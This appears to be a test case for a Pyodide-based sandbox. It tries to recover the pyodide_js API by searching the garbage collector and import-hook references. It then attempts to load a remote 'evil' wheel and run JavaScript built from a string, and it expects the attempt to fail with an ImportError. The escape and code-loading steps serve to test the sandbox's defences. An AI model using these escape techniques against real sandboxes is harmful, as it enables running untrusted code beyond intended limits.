# A lesson that tries to escape through `pyodide_js`, the interpreter's JavaScript API: to
# load code from elsewhere, or to compile JavaScript from a string. The engine refuses the
# import, and before the run it drops every reference the interpreter held to it (Pyodide's
# import hook kept one in `jsfinder.jsproxies`, and `pyodide.webloop` one to its
# `_api.scheduleCallback`): digging finds none.
# expect-outcome: raised
# expect-message: ImportError: pyodide_js is out of reach
import gc
import types


def reach(name):
    """The module, by import or, refused that, by digging: through the garbage collector's
    modules, Pyodide's import hook (its `jsfinder.jsproxies` held `js` and `pyodide_js` until
    the engine cut them), any dict that holds it, and the loaders of modules imported from
    it."""
    try:
        return __import__(name)
    except ImportError:
        print("blocked: import", name)
    for thing in gc.get_objects():
        if isinstance(thing, types.ModuleType):
            if thing.__name__ == name:
                print("reached", name, "through the garbage collector")
                return thing
            finder = getattr(thing, "jsfinder", None)
            if finder is not None and name in getattr(finder, "jsproxies", {}):
                print("reached", name, "through the import hook of", thing.__name__)
                return finder.jsproxies[name]
        elif type(thing) is dict and type(thing.get(name)).__name__.startswith("Js"):
            print("reached", name, "through a dict that holds it")
            return thing[name]
        elif type(thing).__name__ == "JsLoader" and getattr(thing, "jsproxy", None) is not None:
            print("LEAKED: a loader of a JavaScript module still holds it")
    raise ImportError(f"{name} is out of reach")


pyodide_js = reach("pyodide_js")
pyodide_js.loadPackage(input().strip() + "/evil-0.1-py3-none-any.whl")
print("LEAKED", pyodide_js.runPython.constructor("return self.location.href")())
